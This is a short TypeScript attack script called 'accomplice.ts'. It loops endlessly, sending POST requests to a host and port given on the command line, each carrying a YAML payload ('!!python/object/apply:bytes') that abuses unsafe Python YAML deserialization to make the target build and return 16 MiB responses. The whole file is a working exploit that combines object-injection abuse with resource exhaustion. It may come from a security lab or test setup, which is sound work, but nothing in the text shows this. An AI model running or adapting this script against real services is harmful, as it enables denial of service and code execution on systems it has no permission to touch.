import { request } from 'node:http'

/** `accomplice.ts IP PORT HOST`: fetches large answers of the attacked application, one after the other, until it is killed. */
const [host, port, name] = process.argv.slice(2)

for (;;) await fetchLarge()

/** What the hole of the application is told to answer with: 16 MiB. */
function fetchLarge(): Promise<void> {
  const body = `!!python/object/apply:bytes [${16 * 1024 ** 2}]\n`
  return new Promise((resolve) => {
    const asking = request(
      { host, port, method: 'POST', path: '/', headers: { host: name }, agent: false },
      (response) => {
        response.once('close', () => resolve())
        response.resume()
      },
    )
    asking.once('error', () => setTimeout(resolve, 50))
    asking.end(body)
  })
}
